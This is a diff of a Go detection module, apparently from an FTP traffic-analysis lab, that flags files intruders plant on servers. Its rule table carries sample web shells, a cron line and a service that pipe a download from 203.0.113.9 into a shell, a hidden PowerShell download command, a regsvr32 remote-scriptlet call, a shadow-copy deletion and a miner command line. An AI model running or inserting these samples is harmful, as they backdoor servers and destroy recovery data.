@@ -1,6 +1,6 @@
 // What intruders plant on a server: pages that run what they are sent, jobs that fetch programs, miners.
 
-package baseline
+package content
 
 import (
 	"bytes"
@@ -8,67 +8,8 @@ import (
 	"slices"
 	"strings"
 
-	"ftplab/lab/analysis/capture"
-	"ftplab/lab/analysis/ftp"
 	"ftplab/lab/analysis/internal/pattern"
 )
-
-// A plant is a file that intruders store, such as one that somebody runs later. All of its parts are in the
-// file. Patterns are looked for where the first part was found, and after it.
-type plant struct {
-	what string
-	// kind is loot for what has no other use, doubtful for what administrators seldom write, and
-	// suspect for what they sometimes do.
-	kind  contentKind
-	parts []part
-	// fetched says that a download of it counts, too, because devices fetch it to run it.
-	fetched bool
-	where   place
-	// source says who describes it, and example is such a file.
-	source, example string
-}
-
-// A part is a text of which one of the marks is a piece, in lower case. If has is nil, the mark is enough.
-// Marks are looked for first, because that is cheaper.
-type part struct {
-	marks []string
-	has   func(t *passage) bool
-}
-
-// marked is a part that has one of some marks.
-func marked(marks ...string) part { return part{marks: marks} }
-
-// like is a part that matches a pattern, and has one of some marks.
-func like(expression string, marks ...string) part {
-	p := pattern.New(expression)
-	return part{marks, func(t *passage) bool { return t.matches(p) }}
-}
-
-// in reports whether a passage has the part.
-func (p part) in(t *passage) bool {
-	return slices.ContainsFunc(p.marks, t.has) && (p.has == nil || p.has(t))
-}
-
-// A passage is the text of a packet, in lower case, with its pairs of letters. They show at once that it has
-// none of most marks and patterns.
-type passage struct {
-	text  []byte
-	pairs pattern.Pairs
-}
-
-// read takes the data of a packet.
-func (t *passage) read(data []byte) {
-	t.text = appendLower(t.text[:0], data)
-	t.pairs = pattern.PairsOf(t.text)
-}
-
-func (t *passage) has(mark string) bool {
-	return t.pairs.Spell(mark) && bytes.Contains(t.text, []byte(mark))
-}
-
-func (t *passage) matches(p *pattern.Pattern) bool {
-	return p.MayMatch(&t.pairs) && p.Regexp().Match(t.text)
-}
 
 // Fragments of patterns, in lower case.
 const (
@@ -108,25 +49,25 @@ var plants = slices.Concat(serverPlants, pagePlants, stolenTexts, implants)
 
 // serverPlants are pages that run what they are sent, jobs, services, scripts that fetch programs, and miners.
 var serverPlants = []plant{
-	{what: "a page that hands a shell what it is sent", kind: loot, source: atWebShells,
+	{what: "a page that hands a shell what it is sent", kind: Malicious, source: atWebShells,
 		example: `<%@ Page Language="C#"%><script runat="server">void Page_Load(object s,EventArgs e){var p=new Process();p.StartInfo.FileName="cmd.exe";p.StartInfo.Arguments="/c "+Request["c"];p.Start();}</script>`,
 		parts: []part{serverPage, aVisitor,
 			marked("processstartinfo", "diagnostics.process", "process.start", "new process", "wscript.shell", "shell.application", "getruntime"),
 			like(`["'](/(usr/)?bin/)?(ba|da)?sh["' ]|["'](%comspec%|([a-z]:)?[\\\w]*cmd(\.exe)?)["' ]|\bpowershell(\.exe)?["' ]`, "sh", "cmd", "%comspec%")}},
-	{what: "a page that runs what it is sent", kind: loot, source: atWebShells,
+	{what: "a page that runs what it is sent", kind: Malicious, source: atWebShells,
 		example: "<% Dim x : ExecuteGlobal Request.Form(\"c\") %>",
 		parts:   []part{marked("<%", "<jsp:", "runat="), like(runsShellText+`\s*\(?[^;\n]{0,80}`+toPage, "eval", "exec", "process")}},
-	{what: "a script that runs what it is sent", kind: loot, source: atWebShells,
+	{what: "a script that runs what it is sent", kind: Malicious, source: atWebShells,
 		example: "#!/usr/bin/python\nimport cgi, os\nform = cgi.FieldStorage()\ncmd = form.getvalue('cmd')\nos.system(cmd)\n",
 		parts: []part{like(toScript, "req.", "request.", "$env{", "param", "getvalue", "fieldstorage", "form[", ".query", "query_string"), marked("#!/", "import ", "require(", "require '"),
 			{[]string{"system", "popen", "exec", "eval", "subprocess", "`"}, runsVisitors}}},
-	{what: "a page of ColdFusion that runs what it is sent", kind: loot, source: atWebShells,
+	{what: "a page of ColdFusion that runs what it is sent", kind: Malicious, source: atWebShells,
 		example: `<cfexecute name="cmd.exe" arguments="/c #form.c#">`,
 		parts:   []part{like(`<cfexecute\b[^>]{0,200}#(url|form|cgi)\.`, "<cfexecute")}},
-	{what: "a page that loads a program which it is sent", kind: loot, source: atWebShells,
+	{what: "a page that loads a program which it is sent", kind: Malicious, source: atWebShells,
 		example: `<%@ Page Language="C#"%><% System.Reflection.Assembly.Load(Request.BinaryRead(Request.ContentLength)).CreateInstance("U"); %>`,
 		parts:   []part{serverPage, aVisitor, like(`assembly\.load\s*\(\s*[^"\s)]|\bdefineclass\s*\(`, "assembly.load", "defineclass")}},
-	{what: "settings of a web server that run pictures or texts as programs", kind: loot, source: atWebShells,
+	{what: "settings of a web server that run pictures or texts as programs", kind: Malicious, source: atWebShells,
 		example: "AddType application/x-httpd-php .jpg\n",
 		parts: []part{like(`(addtype|addhandler|sethandler)[ \t]+([^\n]{0,60}[^.\n])?(php|cgi-script)[^\n]{0,60}`+picturesEnd+
 			`|<files(match)?\b[^>]*(jpe?g|png|gif|bmp|ico|\.ht)[^>]*>[^<]{0,80}sethandler[^\n]{0,60}(php|cgi)`+
@@ -134,75 +75,72 @@ var serverPlants = []plant{
 			`|<add\b[^>]*\bpath="[^">]*`+picturesEnd+`"[^>]*\bscriptprocessor=|<add\b[^>]*\bscriptprocessor=[^>]*\bpath="[^">]*`+picturesEnd,
 			"addtype", "handler", "pend_file")}},
 
-	{what: "a job that fetches a program and runs it", kind: loot, where: anywhere, source: atJobs,
+	{what: "a job that fetches a program and runs it", kind: Malicious, where: anywhere, source: atJobs,
 		example: "* * * * * root curl -s http://203.0.113.9/x.sh|sh\n",
 		parts:   []part{like(schedule+`[^\n]*(`+pipedToShell+`|/dev/tcp/)`, "curl", "wget", "lynx ", "base64 -", "/dev/tcp/")}},
-	{what: "a job that runs a program in a folder that everybody may write", kind: doubtful, source: atJobs,
+	{what: "a job that runs a program in a folder that everybody may write", kind: LikelyMalicious, source: atJobs,
 		example: "@reboot root /dev/shm/.x/kworker\n",
 		parts:   []part{like(schedule+`[ \t]*(root[ \t]+)?(/(usr/)?bin/(ba|da)?sh +)?`+scratch, "/tmp/", "/dev/shm/")}},
-	{what: "a service that fetches a program and runs it", kind: loot, where: anywhere, source: atBoot,
+	{what: "a service that fetches a program and runs it", kind: Malicious, where: anywhere, source: atBoot,
 		example: "[Service]\nExecStart=/bin/bash -c 'curl -s http://203.0.113.9/x.sh | bash'\n",
 		parts:   []part{like(`(?m)^exec(start|stop|reload)(pre|post)?=[^\n]*(`+pipedToShell+`|/dev/tcp/)`, "execst", "execreload")}},
-	{what: "a service in a folder that everybody may write", kind: doubtful, source: atBoot,
+	{what: "a service in a folder that everybody may write", kind: LikelyMalicious, source: atBoot,
 		example: "[Service]\nExecStart=/dev/shm/.x/kworker\n",
 		parts:   []part{like(`(?m)^execstart(pre|post)?=[-@+!:]*`+scratch, "execstart")}},
-	{what: "a library that every program loads, from a folder that everybody may write", kind: doubtful, source: "MITRE ATT&CK, T1574.006 (dynamic linker hijacking)",
+	{what: "a library that every program loads, from a folder that everybody may write", kind: LikelyMalicious, source: "MITRE ATT&CK, T1574.006 (dynamic linker hijacking)",
 		example: "export LD_PRELOAD=/dev/shm/.x.so\n",
 		parts:   []part{like(`\bld_preload=["']?`+scratch, "ld_preload=")}},
 
-	{what: "a script that fetches a program for each kind of processor and runs it", kind: loot, fetched: true, source: atLoaders,
+	{what: "a script that fetches a program for each kind of processor and runs it", kind: Malicious, fetched: true, source: atLoaders,
 		example: strings.Repeat("cd /tmp; wget http://203.0.113.9/mips; chmod 777 mips; ./mips; rm -rf mips\n", 3),
 		parts:   []part{like(`([^\n]*(wget|curl|tftp|ftpget)\b[^\n]{0,200}(;|&&|\n)\s*chmod +(\+x|a\+x|[0-7]*7[0-7]*) +[^\n]{0,80}(;|&&|\n)\s*(sh |\./)[^\n]*\n+(rm [^\n]*\n+)?){3}`, "chmod")}},
-	{what: "a script that runs what it fetches from a host without a name", kind: doubtful, fetched: true, where: anywhere, source: atLoaders,
+	{what: "a script that runs what it fetches from a host without a name", kind: LikelyMalicious, fetched: true, where: anywhere, source: atLoaders,
 		example: "#!/bin/sh\ncurl -s http://203.0.113.9/x.sh | bash\n",
 		parts:   []part{{[]string{"curl", "wget", ".download", "certutil", "bitsadmin"}, fetchesFromAddress}}},
-	{what: "a command of PowerShell that hides its window and its text", kind: loot, fetched: true, source: "MITRE ATT&CK, T1059.001 and T1564.003 (hidden window)",
+	{what: "a command of PowerShell that hides its window and its text", kind: Malicious, fetched: true, source: "MITRE ATT&CK, T1059.001 and T1564.003 (hidden window)",
 		example: "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQA",
 		parts:   []part{like(`-e(c|n|nc|ncodedcommand)? +["']?[a-z0-9+/=]{40}`, "powershell"), like(`-w(in(dowstyle)?)? +["']?(h(idden)?|1)\b`, "powershell")}},
-	{what: "a command of PowerShell that hides its window and fetches a program", kind: loot, fetched: true, source: "MITRE ATT&CK, T1059.001 and T1564.003 (hidden window)",
+	{what: "a command of PowerShell that hides its window and fetches a program", kind: Malicious, fetched: true, source: "MITRE ATT&CK, T1059.001 and T1564.003 (hidden window)",
 		example: `powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://www.example/a')`,
 		parts:   []part{like(`\bpowershell\b[^\n]*-w(in(dowstyle)?)? +["']?(h(idden)?|1)\b[^\n]*(download(string|file|data)|\biwr\b|invoke-webrequest)`, "powershell")}},
-	{what: "a program of Windows that runs a script of another site", kind: loot, fetched: true, source: atProxies,
+	{what: "a program of Windows that runs a script of another site", kind: Malicious, fetched: true, source: atProxies,
 		example: "regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll",
 		parts:   []part{like(`\bregsvr32\b[^\n]*/i:["']?https?:|\brundll32\b[^\n]*javascript:|\bmshta(\.exe)?["']?[ ,"']+(https?|javascript|vbscript):`, "regsvr32", "rundll32", "mshta")}},
-	{what: "a script of Windows that fetches a program and runs it", kind: doubtful, fetched: true, source: atLoaders,
+	{what: "a script of Windows that fetches a program and runs it", kind: LikelyMalicious, fetched: true, source: atLoaders,
 		example: `Set h=CreateObject("MSXML2.XMLHTTP"):h.Open "GET","http://203.0.113.9/a.exe",0:h.Send:Set s=CreateObject("ADODB.Stream"):s.Write h.ResponseBody:s.SaveToFile "a.exe":CreateObject("WScript.Shell").Run "a.exe"`,
 		parts:   []part{marked("xmlhttp", "winhttprequest"), marked("adodb.stream"), marked("savetofile"), marked(".run", ".exec", "shellexecute")}},
-	{what: "a task of Windows that runs a program in a folder that everybody may write", kind: doubtful, source: "MITRE ATT&CK, T1053.005 (scheduled task) and T1547.001 (run keys)",
+	{what: "a task of Windows that runs a program in a folder that everybody may write", kind: LikelyMalicious, source: "MITRE ATT&CK, T1053.005 (scheduled task) and T1547.001 (run keys)",
 		example: `<Task><Exec><Command>C:\Users\Public\svc.exe</Command></Exec></Task>`,
 		parts:   []part{like(`<command>[^<]*\\(temp|tmp|public)\\|\[hkey_[^\]]*\\currentversion\\run(once)?\][^\[]*="[^\n]*\\(temp|tmp|public)\\|\bschtasks\b[^\n]*/create[^\n]*\\(temp|tmp|public)\\`, "<command>", `\currentversion\run`, "schtasks")}},
-	{what: "a script that removes what protects a system", kind: doubtful, fetched: true, source: "MITRE ATT&CK, T1490 (inhibit system recovery) and T1562.001 (disable tools)",
+	{what: "a script that removes what protects a system", kind: LikelyMalicious, fetched: true, source: "MITRE ATT&CK, T1490 (inhibit system recovery) and T1562.001 (disable tools)",
 		example: "vssadmin delete shadows /all /quiet\r\n",
 		parts:   []part{like(`\bvssadmin[^\n]* delete shadows[^\n]*/all|\bshadowcopy delete\b|\bwbadmin[^\n]* delete catalog|\brecoveryenabled +no\b|-disablerealtimemonitoring +(\$true|1)\b`, "shadow", "wbadmin", "recoveryenabled", "-disablerealtime")}},
-	{what: "a script that runs a hidden program in a folder that everybody may write", kind: doubtful, source: "MITRE ATT&CK, T1037.004 (RC scripts) and T1546.004 (shell configuration)",
+	{what: "a script that runs a hidden program in a folder that everybody may write", kind: LikelyMalicious, source: "MITRE ATT&CK, T1037.004 (RC scripts) and T1546.004 (shell configuration)",
 		example: "#!/bin/sh\n/tmp/.x/k &\nexit 0\n",
 		parts:   []part{like(`(?m)^[ \t]*((nohup|setsid|exec|sh|bash) +)*`+scratch+`\.\w`, "/tmp/.", "/dev/shm/.")}},
-	{what: "the test file of virus scanners", kind: doubtful, fetched: true, source: "EICAR, Anti Malware Testfile",
+	{what: "the test file of virus scanners", kind: LikelyMalicious, fetched: true, source: "EICAR, Anti Malware Testfile",
 		example: `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTI` + `VIRUS-TEST-FILE!$H+H*`,
 		parts:   []part{marked("$eicar-standard-antivirus-test-file!")}},
-	{what: "a page that runs a program of its server", kind: suspect, source: atWebShells,
+	{what: "a page that runs a program of its server", kind: Suspicious, source: atWebShells,
 		example: `<!--#exec cmd="ls" -->`,
 		parts:   []part{marked("<!--#exec cmd=")}},
-	{what: "settings that lead only visitors from a search engine to another site", kind: suspect, source: "MITRE ATT&CK, T1189 (drive-by compromise)",
+	{what: "settings that lead only visitors from a search engine to another site", kind: Suspicious, source: "MITRE ATT&CK, T1189 (drive-by compromise)",
 		example: "RewriteCond %{HTTP_REFERER} google\nRewriteRule .* http://www.example/ [R=302,L]\n",
 		parts:   []part{like(`rewritecond[^\n]*%\{http_referer\}[ \t]+[^!\n]*\b(google|bing|yahoo)`, "%{http_referer}"), like(`rewriterule[^\n]*https?://`, "rewriterule")}},
 
-	{what: "the settings of a miner, with the wallet of its owner", kind: loot, source: atMiners,
+	{what: "the settings of a miner, with the wallet of its owner", kind: Malicious, source: atMiners,
 		example: "./m -o stratum+tcp://pool.example:3333 -u 48" + strings.Repeat("Ab9", 31),
 		parts:   []part{marked("stratum+tcp://", "stratum+ssl://", "stratum+tls://"), like(`\b4[0-9ab][0-9a-z]{93}\b`, "4")}},
-	{what: "the settings of a miner", kind: suspect, source: atMiners,
+	{what: "the settings of a miner", kind: Suspicious, source: atMiners,
 		example: "./m -o stratum+tcp://pool.example:3333 -u ada",
 		parts:   []part{marked("stratum+tcp://", "stratum+ssl://", "stratum+tls://")}},
-	{what: "what intruders leave", kind: doubtful, source: "MITRE ATT&CK, T1491.002 (defacement)",
+	{what: "what intruders leave", kind: LikelyMalicious, source: "MITRE ATT&CK, T1491.002 (defacement)",
 		example: "Hacked by Mallory\n",
 		parts:   []part{like(`^\W*(h[a4]ck[e3]d|pwn[e3]d|d[e3]fac[e3]d) by\b`, " by")}},
-	{what: "a script that a page hides", kind: suspect, source: "MITRE ATT&CK, T1189 (drive-by compromise)",
+	{what: "a script that a page hides", kind: Suspicious, source: "MITRE ATT&CK, T1189 (drive-by compromise)",
 		example: `<script>eval(unescape("%64%6f%63"))</script>`,
 		parts:   []part{marked("<script"), like(`\beval["']?\]?\s*\(\s*((this|window)\s*[.\[]\s*["']?)?(unescape|atob|string(\.|\[["'])fromcharcode|decodeuricomponent)["']?\]?\s*\(|\bunescape\s*\(\s*["'](%[0-9a-f]{2}){4}`, "unescape", "eval")}},
 }
-
-// toPool is the beginning of an address in a miner, which is a program.
-var toPool = []byte("stratum+tcp://")
 
 var (
 	// keptText matches a variable that a visitor's text is assigned to, and runText a variable that is run.
@@ -237,106 +175,4 @@ func fetchesFromAddress(t *passage) bool {
 		a, err := netip.ParseAddr(string(m[1]) + string(m[2]))
 		return err == nil && !a.IsPrivate() && !a.IsLoopback()
 	})
-}
-
-// planted are the files that intruders plant, by data connection.
-type planted struct {
-	files   map[int]*plantedFile
-	found   map[int]content
-	passage // a buffer
-}
-
-// A plantedFile is what was seen of a file.
-type plantedFile struct {
-	parts   []int // those of each plant that were found, as bits; nil before the first text
-	binary  bool
-	archive *archive // nil for other files
-}
-
-// packet takes the next packet of a data connection. A file is a text or not by its first bytes; parts of
-// it may be in different packets.
-func (all *planted) packet(p *capture.Packet) {
-	t, data, id := p.Connection.Transfer, p.TCP.Payload, p.Connection.ID
-	if t == nil || isListing(t.Command) || p.Segment.DataSeq() >= maxPage {
-		return
-	}
-	if p.Segment.DataSeq() == 1 && len(all.files) < maxContents {
-		all.files[id] = &plantedFile{binary: !isScript(data), archive: archiveOf(data)}
-		if what := disguise(t.Argument, data); what != "" && t.Mode == "" {
-			all.note(p, content{kind: doubtful, what: what + " (MITRE ATT&CK, T1036.008, masquerade file type)"})
-		}
-	}
-	f := all.files[id]
-	if f == nil {
-		return
-	}
-	if f.binary {
-		if t.Sender() == ftp.Client && bytes.Contains(data, toPool) {
-			all.note(p, content{kind: doubtful, what: "a miner (" + atMiners + ")"})
-		}
-		all.text = appendTexts(all.text[:0], data)
-	} else {
-		all.text = appendLower(all.text[:0], bytes.ReplaceAll(data, []byte{0}, nil)) // UTF-16 has zeros
-		all.text = appendHidden(all.text, data)
-	}
-	if f.archive != nil {
-		all.archived(p, f.archive)
-	}
-	if len(all.text) == 0 {
-		return
-	}
-	if f.parts == nil {
-		f.parts = make([]int, len(plants))
-	}
-	all.pairs = pattern.PairsOf(all.text)
-	for i, plant := range plants {
-		if t.Sender() != ftp.Client && !plant.fetched || !plant.where.covers(f.binary) {
-			continue
-		}
-		for j, part := range plant.parts {
-			if (j == 0 || part.has == nil || f.parts[i]&1 != 0) && f.parts[i]&(1<<j) == 0 && part.in(&all.passage) {
-				f.parts[i] |= 1 << j
-			}
-		}
-		if f.parts[i] == 1<<len(plant.parts)-1 {
-			all.note(p, content{kind: plant.kind, what: plant.what + " (" + plant.source + ")", fetched: plant.fetched})
-		}
-	}
-}
-
-// archived looks at a packet of an archive.
-func (all *planted) archived(p *capture.Packet, a *archive) {
-	a.count += bytes.Count(p.TCP.Payload, a.member)
-	switch {
-	case hasBomb(p.TCP.Payload):
-		all.note(p, content{kind: bomb, what: "an archive with a file that is more than five hundred times as large as its data", in: a})
-	case stolenHashes.Match(all.text):
-		all.note(p, content{kind: secret, what: "the passwords of accounts, in an archive", in: a})
-	case secretKey.Match(bytes.ToUpper(all.text)):
-		all.note(p, content{kind: privateKey, what: "a private key, in an archive", in: a})
-	}
-}
-
-// note remembers the worst of what a connection shows.
-func (all *planted) note(p *capture.Packet, c content) {
-	if before, known := all.found[p.Connection.ID]; known && !(isWorst(c.kind) && !isWorst(before.kind)) || len(all.found) >= maxContents {
-		return
-	}
-	if c.packet = p.Number; p.ChecksumWrong() {
-		c.damaged = p.IP.Src
-	}
-	all.found[p.Connection.ID] = c
-}
-
-func isWorst(k contentKind) bool { return k == loot || k == secret }
-
-// shortcut is how a shortcut of Windows begins.
-const shortcut = "L\x00\x00\x00\x01\x14\x02\x00"
-
-// isScript reports whether a file may be a script, by its first bytes: it is a text, or a shortcut.
-func isScript(data []byte) bool {
-	if bytes.HasPrefix(data, []byte(shortcut)) || bytes.HasPrefix(data, []byte("\xff\xfe")) || bytes.HasPrefix(data, []byte("\xfe\xff")) {
-		return true
-	}
-	return !bytes.ContainsFunc(data[:min(len(data), maxHead)], func(r rune) bool { return r < '\t' || r > '\r' && r < ' ' && r != '\x1b' })
 }
